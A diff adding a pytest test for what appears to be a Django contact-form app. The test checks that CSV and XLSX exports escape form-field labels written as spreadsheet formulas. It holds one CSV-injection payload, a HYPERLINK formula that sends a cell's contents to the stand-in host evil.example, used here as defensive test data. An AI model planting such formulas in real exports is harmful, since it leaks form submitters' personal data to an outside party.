@@ -279,3 +279,29 @@ def test_listing_names_the_sender_when_editors_renamed_the_name_field(
     ContactSubmission.objects.create(page=contact_page, form_data={"your_name": "Rosa Díaz"})
     client.force_login(intake_user)
     assert "Rosa Díaz" in client.get(url("list")).content.decode()
+
+
+FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&E2,"Phone")'
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_export_headings_from_field_labels_cannot_run(
+    client, submission, intake_user, export_format
+):
+    """Editors who may not read submissions still write the form's labels, which head
+    the export's columns: a label written as a formula stays text."""
+    phone = submission.page.specific.form_fields.get(clean_name="phone")
+    phone.label = FORMULA_LABEL
+    phone.save()
+    client.force_login(intake_user)
+    response = client.get(url("list") + f"?export={export_format}")
+    content = b"".join(response.streaming_content)
+    if export_format == "csv":
+        header = next(csv.reader(io.StringIO(content.decode())))
+        cells = header
+    else:
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = [cell.value for cell in next(sheet.iter_rows())]
+        assert {cell.data_type for cell in next(sheet.iter_rows())} == {"s"}
+    assert "'" + FORMULA_LABEL in cells
+    assert not any(str(cell).startswith("=") for cell in cells)
